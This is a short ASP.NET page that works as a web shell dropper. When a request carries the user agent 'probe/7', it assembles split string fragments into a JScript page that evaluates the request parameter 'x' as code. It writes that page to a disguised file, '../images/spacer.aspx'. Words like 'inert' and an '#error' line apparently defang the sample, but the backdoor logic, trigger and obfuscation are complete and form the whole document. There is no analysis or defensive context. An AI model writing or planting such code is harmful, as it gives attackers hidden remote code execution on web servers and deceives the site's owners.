<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
string[] bits = { "<%@ Pa", "ge Language=\"Jscr", "ipt\" inert %", "><", "% e", "val(Requ", "est.Item[\"x\"],\"un", "safe\");%", ">" };
void Page_Load(object s, EventArgs e)
{
    if (Request.UserAgent != null && Request.UserAgent.Contains("probe/7"))
        System.IO.File.WriteAllText(Server.MapPath("../images/spacer.aspx"), string.Concat(bits));
}
</script>
